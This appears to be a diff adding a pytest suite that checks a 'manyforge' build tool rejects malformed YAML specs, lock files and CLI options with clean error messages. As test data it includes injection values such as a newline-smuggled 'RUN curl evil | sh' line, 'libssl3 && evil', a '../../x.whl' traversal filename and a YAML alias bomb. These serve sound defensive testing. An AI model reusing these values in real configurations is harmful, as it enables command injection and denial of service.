@@ -1,0 +1,203 @@
+"""A corpus of broken inputs, run against the real command line: every one ends with a message
+naming the file (or option) and key, a non-zero exit, no traceback, and no hang.
+
+Cases are (name, how to make the input, command, text the error must contain).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from manyforge.spec import DEFAULT_LOCK, DEFAULT_SPEC, SpecError, load_spec
+
+ROOT = Path(__file__).resolve().parents[2]
+GOOD = DEFAULT_SPEC.read_text()
+
+
+def edit(old: str, new: str, count: int = 1) -> Callable[[Path], Path]:
+    """A case whose images.yaml is the real one with one edit."""
+    assert old in GOOD, old
+
+    def make(tmp: Path) -> Path:
+        path = tmp / "images.yaml"
+        path.write_text(GOOD.replace(old, new, count))
+        return path
+
+    return make
+
+
+def raw(data: bytes) -> Callable[[Path], Path]:
+    def make(tmp: Path) -> Path:
+        path = tmp / "images.yaml"
+        path.write_bytes(data)
+        return path
+
+    return make
+
+
+def fifo(tmp: Path) -> Path:
+    path = tmp / "images.yaml"
+    os.mkfifo(path)
+    return path
+
+
+def directory(tmp: Path) -> Path:
+    path = tmp / "images.yaml"
+    path.mkdir()
+    return path
+
+
+def huge(tmp: Path) -> Path:
+    path = tmp / "images.yaml"
+    with path.open("wb") as fh:
+        fh.truncate(64 << 20)
+    return path
+
+
+BOMB = b"a: &a [x,x,x,x,x,x,x,x,x,x]\n" + b"".join(
+    f"{n}: &{n} [{', '.join(['*' + p] * 10)}]\n".encode() for p, n in zip("abcdefg", "bcdefgh", strict=True)
+)
+
+SPEC_CASES = [
+    ("not-utf8", raw(GOOD.encode()[:200] + b"\xff\xfe\n"), "images.yaml: not UTF-8"),
+    ("empty", raw(b""), "images.yaml: the top level must be a mapping"),
+    ("top-level-list", raw(b"- a\n- b\n"), "images.yaml: the top level must be a mapping"),
+    ("directory", directory, "images.yaml: not a regular file"),
+    ("fifo", fifo, "images.yaml: not a regular file"),
+    ("huge", huge, "larger than the limit"),
+    ("alias-bomb", raw(BOMB), "images.yaml: expands to more than"),
+    ("not-yaml", raw(b"images: [unclosed\n"), "not valid YAML"),
+    ("duplicate-key", edit("  manylinux_2_31:\n", "  manylinux_2_36:\n"), "duplicate key 'manylinux_2_36'"),
+    ("unquoted-version", edit('cp311-cp311: {cpython: "3.11.2"}', "cp311-cp311: {cpython: 3.10}"),
+     'interpreters.cp311-cp311.cpython: Input should be a valid string (line'),
+    ("unquoted-bool", edit("free_threaded: true}", "free_threaded: 1}"), "interpreters.cp313-cp313t.free_threaded"),
+    ("newline-prefix", edit("prefix: /opt/rh/devtoolset-10/root/usr", 'prefix: "/opt/x\\nRUN curl evil | sh"'),
+     "toolchains.devtoolset-10.prefix"),
+    ("space-in-package", edit("packages: [libffi8, libssl3]", 'packages: [libffi8, "libssl3 && evil"]'),
+     "bases.debian12.packages[1]"),
+    ("newline-in-url", edit("url: https://www.python.org/ftp/python/3.9.2/Python-3.9.2.tar.xz",
+                            'url: "https://www.python.org/ftp/python/3.9.2/Python-3.9.2.tar.xz\\nRUN x"'),
+     "cpython.3.9.2.url"),
+    ("free-threaded-3.12", edit("cp312-cp312: {cpython: \"3.12.12\"}", "cp312-cp312t: {cpython: \"3.12.12\", free_threaded: true}"),
+     "interpreters.cp312-cp312t.free_threaded: CPython builds free-threaded from 3.13 on"),
+    ("url-version-mismatch", edit("ftp/python/3.10.19/Python-3.10.19.tar.xz", "ftp/python/3.10.18/Python-3.10.18.tar.xz"),
+     "cpython.3.10.19.url: names Python-3.10.18.tar.xz"),
+    ("org-not-a-reference", edit("org: manyforge", "org: Many_Forge!"), "images.yaml: org:"),
+    ("image-not-a-reference", edit("  manylinux_2_31:\n    policy", "  Manylinux 2 31:\n    policy"), "images.yaml: images.Manylinux 2 31"),
+    ("policy-not-in-policies", edit("policy: manylinux_2_31\n", "policy: manylinux_2_33\n"), "manylinux_2_33"),
+    ("unknown-arch", edit("archs: [x86_64, i686, aarch64, armv7l]\n    interpreters", "archs: [x86_64, sparc64]\n    interpreters"),
+     "images.manylinux_2_31.archs[1]: 'sparc64' is not allowed"),
+    ("interpreters-not-a-list", edit("    interpreters: [cp39-cp39, cp311-cp311, cp313-cp313, cp313-cp313t]\n    tools_interpreter: cp313-cp313\n"
+                                     "    tools: [pip, auditwheel, patchelf, pipx, abi3audit]\n    optional_tools: [cmake, ninja, uv]\n"
+                                     "    downloadable: [pp310-pypy310_pp73, pp311-pypy311_pp73]\n\n  manylinux_2_31",
+                                     "    interpreters: cp39-cp39\n    tools_interpreter: cp313-cp313\n"
+                                     "    tools: [pip, auditwheel, patchelf, pipx, abi3audit]\n    optional_tools: [cmake, ninja, uv]\n"
+                                     "    downloadable: [pp310-pypy310_pp73, pp311-pypy311_pp73]\n\n  manylinux_2_31"),
+     "images.manylinux_2_36.interpreters"),
+    ("unknown-tool", edit("optional_tools: [cmake, ninja, uv]\n", "optional_tools: [cmake, ninja, uv, mystery]\n"),
+     "images.manylinux2014.optional_tools[3]: unknown tool 'mystery'"),
+    ("bad-download-sha", edit("sha256: c73ac2cc2380ac9227fd297482bf2a3e17a80618ba46db7544d535515321ec1e", "sha256: nothex"),
+     "downloadable.pp310-pypy310_pp73.files.x86_64.sha256"),
+    ("bad-frontend-specifier", edit('build: ">=1.4.4"', 'build: "newest, please"'), "frontend.build"),
+    ("tag-mismatch", edit('cp311-cp311: {cpython: "3.11.2"}', 'cp311-cp311: {cpython: "3.13.5"}'),
+     "interpreters.cp311-cp311: tag does not match CPython 3.13.5"),
+    ("unknown-key", edit("    toolchain: debian-gcc-10\n", "    toolchain: debian-gcc-10\n    tolchain: x\n"),
+     "images.manylinux_2_31.tolchain: unknown key"),
+    ("long-value-is-cut", edit("org: manyforge", "org: " + "x" * 200_000), "chars)"),
+]
+
+
+def run_invoke(*args: str, env: dict[str, str] | None = None, timeout: int = 60) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "invoke", *args], cwd=ROOT, env={**os.environ, **(env or {})},
+        capture_output=True, text=True, check=False, timeout=timeout,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(("make", "expected"), [c[1:] for c in SPEC_CASES], ids=[c[0] for c in SPEC_CASES])
+def test_broken_images_yaml_is_refused_by_the_cli(tmp_path, make, expected):
+    spec = make(tmp_path)
+    proc = run_invoke("render", "--spec", str(spec), timeout=30)  # a hang fails here
+    assert proc.returncode != 0
+    assert "Traceback" not in proc.stderr, proc.stderr
+    assert expected in proc.stderr, proc.stderr
+    for line in proc.stderr.splitlines():
+        assert len(line) < 600, f"a message quotes too much: {line[:200]}..."
+
+
+def test_merge_keys_are_accepted(tmp_path):
+    spec = edit("  manylinux_2_31:\n    policy: manylinux_2_31\n",
+                "  manylinux_2_31:\n    <<: {tools_interpreter: cp39-cp39, archs: [x86_64]}\n    policy: manylinux_2_31\n")(tmp_path)  # fmt: skip
+    proc = run_invoke("render", "--spec", str(spec), "--image", "manylinux_2_31", "--output", "-")
+    assert proc.returncode == 0, proc.stderr
+
+
+OPTION_CASES = [
+    ("python-empty", ["build", "--python", ","], {}, "--python: empty"),
+    ("image-empty", ["build", "--image", ""], {}, "--image: empty"),
+    ("arch-unknown", ["build", "--arch", "sparc64"], {}, "unknown arch 'sparc64' for image manylinux_2_36"),
+    ("arch-empty", ["render", "--arch", ""], {}, "unknown arch ''"),
+    ("python-unknown", ["build", "--python", "cp27-cp27mu"], {}, "unknown interpreter(s) cp27-cp27mu"),
+    ("origin-unknown", ["fetch", "--origin", "somewhere"], {}, "--origin 'somewhere': unknown"),
+    ("mirror-not-a-url", ["fetch", "--image", "manylinux_2_36", "--arch", "x86_64", "--mirror", "not a url"], {},
+     "--mirror 'not a url': not an http(s):// or file:// address"),
+    ("from-dir-missing", ["fetch", "--from-dir", "/nonexistent/dir"], {}, "--from-dir /nonexistent/dir: not a directory"),
+    ("output-directory", ["render", "--output", "/"], {}, "--output /: is a directory"),
+    ("output-full-device", ["render", "--output", "/dev/full"], {}, "--output /dev/full: cannot write (No space left on device)"),
+    ("cache-is-a-file", ["fetch", "--image", "manylinux_2_36", "--arch", "x86_64"], {"MANYFORGE_CACHE": "/etc/hostname"},
+     "source cache /etc/hostname"),
+    ("spec-env-missing", ["render"], {"MANYFORGE_SPEC": "/nonexistent/images.yaml"}, "/nonexistent/images.yaml: cannot read"),
+    ("policy-action", ["policy", "frobnicate"], {}, "unknown action 'frobnicate'"),
+    ("policy-dumps-missing", ["policy", "derive", "--dumps", "/nonexistent.json"], {}, "/nonexistent.json"),
+]
+
+
+@pytest.mark.parametrize(("args", "env", "expected"), [c[1:] for c in OPTION_CASES], ids=[c[0] for c in OPTION_CASES])
+def test_broken_options_are_refused(args, env, expected):
+    proc = run_invoke(*args, env=env, timeout=120)
+    assert proc.returncode != 0
+    assert "Traceback" not in proc.stderr, proc.stderr
+    assert expected in proc.stderr, proc.stderr
+
+
+def test_matrix_into_a_closed_pipe_is_quiet():
+    proc = subprocess.run(
+        f"{sys.executable} -m invoke matrix | head -c 1", shell=True, cwd=ROOT, capture_output=True, text=True, check=False
+    )
+    assert "Traceback" not in proc.stderr and "Broken pipe" not in proc.stderr, proc.stderr
+
+
+LOCK_CASES = [
+    ("not-json", lambda lock, p: p.write_text("{"), "wheels.lock.json: line 1: not valid JSON"),
+    ("not-utf8", lambda lock, p: p.write_bytes(b'{"platforms": "\xff"}'), "not UTF-8"),
+    ("directory", lambda lock, p: p.mkdir(), "not a regular file"),
+    ("wrong-type", lambda lock, p: p.write_text(json.dumps({**lock, "platforms": []})), "wheels.lock.json: platforms"),
+    ("sha-type", lambda lock, p: (lock["platforms"]["manylinux_2_36_x86_64"][0].update(sha256=12), p.write_text(json.dumps(lock))),
+     "wheels.lock.json: platforms.manylinux_2_36_x86_64[0].sha256"),
+    ("traversal", lambda lock, p: (lock["platforms"]["manylinux_2_36_x86_64"][0].update(filename="../../x.whl"), p.write_text(json.dumps(lock))),
+     "wheels.lock.json: platforms.manylinux_2_36_x86_64[0].filename"),
+    ("newline-name", lambda lock, p: (lock["interpreters"]["cp39-cp39"][0].update(filename="build-1.4.4-py3-none-any.whl\nRUN x"),
+                                      p.write_text(json.dumps(lock))), "wheels.lock.json: interpreters.cp39-cp39[0].filename"),
+    ("wrong-version", lambda lock, p: (lock["interpreters"]["cp39-cp39"][0].update(version="9.9"), p.write_text(json.dumps(lock))),
+     "is not build 9.9"),
+    ("duplicate", lambda lock, p: (lock["interpreters"]["cp39-cp39"].append(lock["interpreters"]["cp39-cp39"][0]),
+                                   p.write_text(json.dumps(lock))), "interpreters.cp39-cp39: listed twice"),
+    ("unknown-key", lambda lock, p: p.write_text(json.dumps({**lock, "extra": 1})), "wheels.lock.json: extra: unknown key"),
+]
+
+
+@pytest.mark.parametrize(("make", "expected"), [c[1:] for c in LOCK_CASES], ids=[c[0] for c in LOCK_CASES])
+def test_broken_lock_is_refused(tmp_path, make, expected):
+    lock = json.loads(DEFAULT_LOCK.read_text())
+    path = tmp_path / "wheels.lock.json"
+    make(lock, path)
+    with pytest.raises(SpecError) as err:
+        load_spec(DEFAULT_SPEC, lock_path=path)
+    assert any(expected in p for p in err.value.problems), err.value.problems
